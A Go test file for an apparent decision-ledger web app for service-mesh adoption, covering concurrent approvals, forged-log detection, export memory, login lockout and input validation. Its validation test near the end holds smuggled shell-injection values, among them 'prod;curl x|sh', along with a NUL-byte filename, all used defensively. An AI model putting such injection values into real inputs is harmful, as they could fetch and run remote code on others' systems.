package web_test

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"runtime"
	"runtime/debug"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/jackc/pgx/v5"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"meshwise/ledger"
	"meshwise/model"
	"meshwise/store/storetest"
	"meshwise/web"
)

// Three approvers race on each of ten records through HTTP: one answer is
// 303, the other two 409, and each record holds one decision.
func TestRacingDecisionsGetConflict(t *testing.T) {
	_, ts := newServer(t, web.Config{})
	saved, err := testStore.CreateAssessment(context.Background(), model.DefaultAssessment())
	require.NoError(t, err)
	arch, _ := storetest.AddUser(t, testStore, "arch@example.com", model.RoleArchitect)
	archTok := storetest.AddToken(t, testStore, arch, model.RoleArchitect)
	var toks []string
	for _, e := range []string{"a", "b", "c"} {
		u, _ := storetest.AddUser(t, testStore, e+"@example.com", model.RoleApprover)
		toks = append(toks, storetest.AddToken(t, testStore, u, model.RoleApprover))
	}
	var records []string
	form := proposal()
	form.Set("approvers", "") // any approver may decide
	for i := 0; i < 10; i++ {
		resp, _ := as(t, archTok, "POST", ts.URL+"/assessments/"+saved.ID+"/propose", form)
		require.Equal(t, http.StatusSeeOther, resp.StatusCode)
		records = append(records, resp.Header.Get("Location"))
	}
	codes := make(map[string][]int)
	var mu sync.Mutex
	var wg sync.WaitGroup
	for _, rec := range records {
		for i, action := range []string{"approve", "reject", "approve"} {
			wg.Add(1)
			go func() {
				defer wg.Done()
				req, _ := http.NewRequest("POST", ts.URL+rec+"/"+action, strings.NewReader("note=race"))
				req.Header.Set("Authorization", "Bearer "+toks[i])
				req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
				resp, err := noRedirect.Do(req)
				if err != nil {
					t.Error(err)
					return
				}
				resp.Body.Close()
				mu.Lock()
				codes[rec] = append(codes[rec], resp.StatusCode)
				mu.Unlock()
			}()
		}
	}
	wg.Wait()
	for _, rec := range records {
		won, lost := 0, 0
		for _, c := range codes[rec] {
			switch c {
			case http.StatusSeeOther:
				won++
			case http.StatusConflict:
				lost++
			}
		}
		assert.Equal(t, 1, won, "%s: %v", rec, codes[rec])
		assert.Equal(t, 2, lost, "%s: %v", rec, codes[rec])
	}
	_, body := as(t, toks[0], "GET", ts.URL+"/api/v1/verify", nil)
	assert.Contains(t, body, `"ok":true`)
	assert.Contains(t, body, `"entries":20`)
}

// With a rejection's event column changed to "approved" by a superuser,
// the archive and the record page show an integrity failure and no status,
// and the verify endpoint names the entry.
func TestPagesNeverShowAForgedStatus(t *testing.T) {
	_, ts := newServer(t, web.Config{})
	ctx := context.Background()
	saved, err := testStore.CreateAssessment(ctx, model.DefaultAssessment())
	require.NoError(t, err)
	ana, _ := storetest.AddUser(t, testStore, "ana@example.com", model.RoleArchitect)
	bo, _ := storetest.AddUser(t, testStore, "bo@example.com", model.RoleApprover)
	anaTok, boTok := storetest.AddToken(t, testStore, ana, model.RoleArchitect), storetest.AddToken(t, testStore, bo, model.RoleApprover)
	resp, _ := as(t, anaTok, "POST", ts.URL+"/assessments/"+saved.ID+"/propose", proposal())
	record := resp.Header.Get("Location")
	resp, _ = as(t, boTok, "POST", ts.URL+record+"/reject", url.Values{"note": {"not now"}})
	require.Equal(t, http.StatusSeeOther, resp.StatusCode)
	_, body := as(t, boTok, "GET", ts.URL+"/archive", nil)
	require.Contains(t, body, "rejected")

	conn, err := pgx.Connect(ctx, storetest.SuperuserURL(t, testStore))
	require.NoError(t, err)
	defer conn.Close(ctx)
	_, err = conn.Exec(ctx, `SET session_replication_role = replica; UPDATE log_entries SET event = 'approved', payload = jsonb_set(payload, '{event}', '"approved"') WHERE seq = 1`)
	require.NoError(t, err)

	_, body = as(t, boTok, "GET", ts.URL+record, nil)
	assert.Contains(t, body, `data-testid="verify-failed"`)
	assert.Contains(t, body, `data-testid="record-status">integrity failure`)
	assert.NotContains(t, body, `data-testid="approve"`)
	_, body = as(t, boTok, "GET", ts.URL+"/archive", nil)
	assert.Contains(t, body, `data-testid="integrity-failure"`)
	assert.NotContains(t, body, "<td>approved</td>")
	assert.NotContains(t, body, "<td>rejected</td>")
	resp, body = as(t, boTok, "GET", ts.URL+"/api/v1/verify", nil)
	assert.Equal(t, http.StatusOK, resp.StatusCode)
	var rep ledger.Report
	require.NoError(t, json.Unmarshal([]byte(body), &rep))
	assert.False(t, rep.OK)
	assert.Equal(t, int64(1), rep.FirstBad)
	resp, _ = as(t, anaTok, "POST", ts.URL+"/assessments/"+saved.ID+"/propose", proposal())
	assert.Equal(t, http.StatusServiceUnavailable, resp.StatusCode, "nothing is signed over a broken log")
}

// Exporting 20,000 entries streams: the server's heap grows by far less
// than the bundle, and a third concurrent whole-log read gets 429.
func TestExportMemoryIsBounded(t *testing.T) {
	if testing.Short() {
		t.Skip("seeds 20,000 entries")
	}
	_, ts := newServer(t, web.Config{})
	ctx := context.Background()
	arch := model.Principal{User: model.User{ID: "00000000-0000-4000-8000-000000000001", Email: "a@example.com"}, Role: model.RoleArchitect}
	// Real records carry their estimate (tens of KB); the index that pages
	// read leaves it out, so 2 KB of padding stands in for it here.
	padding := &model.Estimate{ModelVersion: strings.Repeat("estimate ", 230)}
	var wg sync.WaitGroup
	for w := 0; w < 64; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 20_000/64+1; i++ {
				if _, err := testStore.Propose(ctx, arch, model.DecisionRecord{Title: fmt.Sprint("r", w, i), Estimate: padding}); err != nil {
					t.Error(err)
					return
				}
			}
		}()
	}
	wg.Wait()

	// The heap between collections holds garbage as well as what is live;
	// collecting at half the usual growth keeps the peak about what the
	// export holds, not about when the collector happened to run.
	defer debug.SetGCPercent(debug.SetGCPercent(50))
	var before, now runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	peak := before.HeapInuse
	done := make(chan int64)
	go func() {
		resp, err := apiClient.Get(ts.URL + "/api/v1/export")
		if err != nil {
			t.Error(err)
			done <- 0
			return
		}
		defer resp.Body.Close()
		n, _ := io.Copy(io.Discard, resp.Body)
		done <- n
	}()
	var size int64
	for size == 0 {
		select {
		case size = <-done:
		case <-time.After(5 * time.Millisecond):
			runtime.ReadMemStats(&now)
			peak = max(peak, now.HeapInuse)
		}
	}
	growth := int64(peak) - int64(before.HeapInuse)
	t.Logf("export of %.1f MiB: peak heap growth %.1f MiB", float64(size)/(1<<20), float64(growth)/(1<<20))
	assert.Greater(t, size, int64(40<<20))
	assert.Less(t, growth, int64(64<<20))

	// Two slow readers hold both slots; the third is told to come back.
	var held []*http.Response
	for i := 0; i < 2; i++ {
		resp, err := apiClient.Get(ts.URL + "/api/v1/export")
		require.NoError(t, err)
		require.Equal(t, http.StatusOK, resp.StatusCode)
		held = append(held, resp)
	}
	resp, err := apiClient.Get(ts.URL + "/api/v1/verify")
	require.NoError(t, err)
	resp.Body.Close()
	assert.Equal(t, http.StatusTooManyRequests, resp.StatusCode)
	assert.Equal(t, "5", resp.Header.Get("Retry-After"))
	for _, r := range held {
		r.Body.Close()
	}
}

// A record that asks for two approvers is approved by the second distinct
// one; the first cannot count twice, and a quorum larger than the approvers
// named is refused on the form.
func TestQuorumOfApprovers(t *testing.T) {
	_, ts := newServer(t, web.Config{})
	saved, err := testStore.CreateAssessment(context.Background(), model.DefaultAssessment())
	require.NoError(t, err)
	ana, _ := storetest.AddUser(t, testStore, "ana@example.com", model.RoleArchitect)
	bo, _ := storetest.AddUser(t, testStore, "bo@example.com", model.RoleApprover)
	cy, _ := storetest.AddUser(t, testStore, "cy@example.com", model.RoleApprover)
	anaTok := storetest.AddToken(t, testStore, ana, model.RoleArchitect)
	boTok, cyTok := storetest.AddToken(t, testStore, bo, model.RoleApprover), storetest.AddToken(t, testStore, cy, model.RoleApprover)

	form := proposal()
	form.Set("approvers", "bo@example.com, cy@example.com")
	form.Set("quorum", "3")
	resp, body := as(t, anaTok, "POST", ts.URL+"/assessments/"+saved.ID+"/propose", form)
	assert.Equal(t, http.StatusUnprocessableEntity, resp.StatusCode)
	assert.Contains(t, body, "asks for 3 approvals but names only 2 approver(s)")

	form.Set("quorum", "2")
	resp, _ = as(t, anaTok, "POST", ts.URL+"/assessments/"+saved.ID+"/propose", form)
	require.Equal(t, http.StatusSeeOther, resp.StatusCode)
	record := resp.Header.Get("Location")
	resp, _ = as(t, boTok, "POST", ts.URL+record+"/approve", url.Values{"note": {"one"}})
	require.Equal(t, http.StatusSeeOther, resp.StatusCode)
	_, body = as(t, boTok, "GET", ts.URL+record, nil)
	assert.Contains(t, body, `data-testid="record-status">proposed`)
	assert.Contains(t, body, "Approvals: 1 of 2 needed.")
	assert.Contains(t, body, "You have already approved this record")
	resp, _ = as(t, boTok, "POST", ts.URL+record+"/approve", url.Values{})
	assert.Equal(t, http.StatusConflict, resp.StatusCode)
	resp, _ = as(t, cyTok, "POST", ts.URL+record+"/approve", url.Values{"note": {"two"}})
	require.Equal(t, http.StatusSeeOther, resp.StatusCode)
	_, body = as(t, cyTok, "GET", ts.URL+record, nil)
	assert.Contains(t, body, `data-testid="record-status">approved`)

	_, body = getBody(t, ts.URL+"/metrics")
	assert.Contains(t, body, "meshwise_log_appended_entries_total 3")
	assert.Contains(t, body, "meshwise_log_integrity_failures_total 0")
}

// An owner's home lists their approved records due for review; re-review
// opens a superseding proposal prefilled from the record.
func TestReviewCadence(t *testing.T) {
	_, ts := newServer(t, web.Config{})
	saved, err := testStore.CreateAssessment(context.Background(), model.DefaultAssessment())
	require.NoError(t, err)
	ana, _ := storetest.AddUser(t, testStore, "ana@example.com", model.RoleArchitect)
	bo, _ := storetest.AddUser(t, testStore, "bo@example.com", model.RoleApprover)
	anaTok, boTok := storetest.AddToken(t, testStore, ana, model.RoleArchitect), storetest.AddToken(t, testStore, bo, model.RoleApprover)
	form := proposal() // owner ana@example.com
	form.Set("review_by", time.Now().AddDate(0, 0, 10).Format("2006-01-02"))
	form.Set("rationale", "PCI scope, reviewed every quarter")
	resp, _ := as(t, anaTok, "POST", ts.URL+"/assessments/"+saved.ID+"/propose", form)
	record := resp.Header.Get("Location")
	resp, _ = as(t, boTok, "POST", ts.URL+record+"/approve", url.Values{})
	require.Equal(t, http.StatusSeeOther, resp.StatusCode)

	_, body := as(t, anaTok, "GET", ts.URL+"/", nil)
	assert.Contains(t, body, `data-testid="my-reviews"`)
	assert.Contains(t, body, "Adopt the Istio add-on for payments")
	_, body = as(t, boTok, "GET", ts.URL+"/", nil)
	assert.NotContains(t, body, `data-testid="my-reviews"`, "only the owner is reminded")
	_, body = as(t, boTok, "GET", ts.URL+"/archive?due=30", nil)
	assert.Contains(t, body, `data-testid="due-soon"`)

	_, body = as(t, anaTok, "GET", ts.URL+record, nil)
	assert.Contains(t, body, `data-testid="re-review"`)
	_, body = as(t, anaTok, "GET", ts.URL+"/assessments/"+saved.ID+"/propose?supersedes="+strings.TrimPrefix(record, "/archive/"), nil)
	assert.Contains(t, body, "PCI scope, reviewed every quarter", "prefilled from the record")
	assert.Contains(t, body, "bo@example.com")
}

// A production decision for a preview option must acknowledge preview
// terms; the acknowledgement is signed into the record.
func TestPreviewNeedsAcknowledgement(t *testing.T) {
	_, ts := newServer(t, web.Config{})
	saved, err := testStore.CreateAssessment(context.Background(), model.DefaultAssessment())
	require.NoError(t, err)
	ana, _ := storetest.AddUser(t, testStore, "ana@example.com", model.RoleArchitect)
	anaTok := storetest.AddToken(t, testStore, ana, model.RoleArchitect)
	form := proposal()
	form.Set("option", model.OptionAppNet)
	resp, body := as(t, anaTok, "POST", ts.URL+"/assessments/"+saved.ID+"/propose", form)
	assert.Equal(t, http.StatusUnprocessableEntity, resp.StatusCode)
	assert.Contains(t, body, `data-testid="error-preview_accepted"`)
	assert.Contains(t, body, "is a public preview (no SLA)")
	form.Set("preview_accepted", "true")
	resp, _ = as(t, anaTok, "POST", ts.URL+"/assessments/"+saved.ID+"/propose", form)
	require.Equal(t, http.StatusSeeOther, resp.StatusCode)
	_, body = as(t, anaTok, "GET", ts.URL+resp.Header.Get("Location"), nil)
	assert.Contains(t, body, `data-testid="preview-accepted"`)
}

// Found by the attack review: concurrent guesses all passed the count of
// failures, and every one ran argon2id at once. Now an attempt is counted
// before its password is checked: of 30 at once, at most five are checked.
func TestConcurrentSignInsCannotPassTheLockout(t *testing.T) {
	_, ts := newServer(t, web.Config{})
	_, password := storetest.AddUser(t, testStore, "victim@example.com", model.RoleViewer)
	codes := make(chan int, 30)
	var wg sync.WaitGroup
	for i := 0; i < 30; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			resp, err := noRedirect.PostForm(ts.URL+"/login", url.Values{"email": {"victim@example.com"}, "password": {fmt.Sprint("wrong password ", i)}})
			if err != nil {
				t.Error(err)
				return
			}
			resp.Body.Close()
			codes <- resp.StatusCode
		}()
	}
	wg.Wait()
	close(codes)
	count := map[int]int{}
	for c := range codes {
		count[c]++
	}
	assert.Equal(t, 5, count[http.StatusUnauthorized], "%v", count)
	assert.Equal(t, 25, count[http.StatusTooManyRequests], "%v", count)
	resp, err := noRedirect.PostForm(ts.URL+"/login", url.Values{"email": {"victim@example.com"}, "password": {password}})
	require.NoError(t, err)
	resp.Body.Close()
	assert.Equal(t, http.StatusTooManyRequests, resp.StatusCode, "the right password after the burst is locked out too")
}

// Found by the attack review: an admin token created a new admin person,
// who then minted a token. Creating people and changing roles need a person.
func TestAdminTokensCannotMakePeople(t *testing.T) {
	_, ts := newServer(t, web.Config{})
	resp, body := as(t, testToken, "POST", ts.URL+"/admin/users", url.Values{"email": {"successor@example.com"}, "role": {"admin"}})
	assert.Equal(t, http.StatusForbidden, resp.StatusCode, body)
	_, _, err := testStore.UserByEmail(context.Background(), "successor@example.com")
	assert.Equal(t, model.ENOTFOUND, model.ErrorCode(err))
}

// Found by the new-user walk: a rejection without a reason went to a bare
// error page. The record page comes back, saying what is missing.
func TestRefusedDecisionReturnsToTheRecord(t *testing.T) {
	_, ts := newServer(t, web.Config{})
	saved, err := testStore.CreateAssessment(context.Background(), model.DefaultAssessment())
	require.NoError(t, err)
	ana, _ := storetest.AddUser(t, testStore, "ana@example.com", model.RoleArchitect)
	bo, _ := storetest.AddUser(t, testStore, "bo@example.com", model.RoleApprover)
	anaTok, boTok := storetest.AddToken(t, testStore, ana, model.RoleArchitect), storetest.AddToken(t, testStore, bo, model.RoleApprover)
	resp, _ := as(t, anaTok, "POST", ts.URL+"/assessments/"+saved.ID+"/propose", proposal())
	record := resp.Header.Get("Location")
	resp, body := as(t, boTok, "POST", ts.URL+record+"/reject", url.Values{"note": {" "}})
	assert.Equal(t, http.StatusUnprocessableEntity, resp.StatusCode)
	assert.Contains(t, body, `data-testid="refusal"`)
	assert.Contains(t, body, "must say why the record is rejected")
	assert.Contains(t, body, `data-testid="record-title"`)
}

// Found by the second attack pass: a NUL in a multipart header of the drift
// check answered 500; a record naming one approver twice, or only its
// proposer, could never be approved; the API signed names the form refuses.
func TestSecondAttackPassFindings(t *testing.T) {
	_, ts := newServer(t, web.Config{})
	arch, _ := storetest.AddUser(t, testStore, "arch@example.com", model.RoleArchitect)
	archTok := storetest.AddToken(t, testStore, arch, model.RoleArchitect)
	resp, body := apiJSON(t, archTok, "POST", ts.URL+"/api/v1/assessments", model.DefaultAssessment())
	require.Equal(t, http.StatusCreated, resp.StatusCode, string(body))
	var created struct{ ID string }
	require.NoError(t, json.Unmarshal(body, &created))
	good := web.ProposalDoc{AssessmentID: created.ID, Title: "t", Cluster: "prod", Option: model.OptionIstioSidecar, Owner: "arch@example.com",
		Scope: []string{"payments"}, Rationale: "r", Evidence: []model.Check{{Name: "n", Command: "kubectl get pods"}},
		Rollback: []string{"az aks mesh disable -g rg -n prod"}, ReviewBy: "2099-01-01"}
	for _, tt := range []struct {
		name  string
		edit  func(p *web.ProposalDoc)
		field string
	}{
		{"cluster name with a shell separator", func(p *web.ProposalDoc) { p.Cluster = "prod;curl x|sh" }, "cluster"},
		{"resource group with a shell separator", func(p *web.ProposalDoc) { p.ResourceGroup = "rg;id" }, "resource_group"},
		{"one approver named twice", func(p *web.ProposalDoc) { p.Approvers, p.Quorum = []string{"bo@example.com", "Bo@example.com"}, 2 }, "approvers"},
		{"the proposer as the only approver", func(p *web.ProposalDoc) { p.Approvers = []string{"arch@example.com"} }, "quorum"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			p := good
			tt.edit(&p)
			resp, body := apiJSON(t, archTok, "POST", ts.URL+"/api/v1/records", p)
			assert.Equal(t, http.StatusUnprocessableEntity, resp.StatusCode, string(body))
			assert.Contains(t, string(body), `"field":"`+tt.field+`"`)
		})
	}
	resp, body = apiJSON(t, archTok, "POST", ts.URL+"/api/v1/records", good)
	require.Equal(t, http.StatusCreated, resp.StatusCode, string(body))
	var rec web.RecordDoc
	require.NoError(t, json.Unmarshal(body, &rec))
	raw := "--b\r\nContent-Disposition: form-data; name=\"pods\"; filename=\"p\x00.json\"\r\n\r\n{}\r\n--b--\r\n"
	req, _ := http.NewRequest("POST", ts.URL+"/api/v1/records/"+rec.ID+"/check", strings.NewReader(raw))
	req.Header.Set("Authorization", "Bearer "+archTok)
	req.Header.Set("Content-Type", "multipart/form-data; boundary=b")
	r2, err := noRedirect.Do(req)
	require.NoError(t, err)
	r2.Body.Close()
	assert.Equal(t, http.StatusUnprocessableEntity, r2.StatusCode)
}
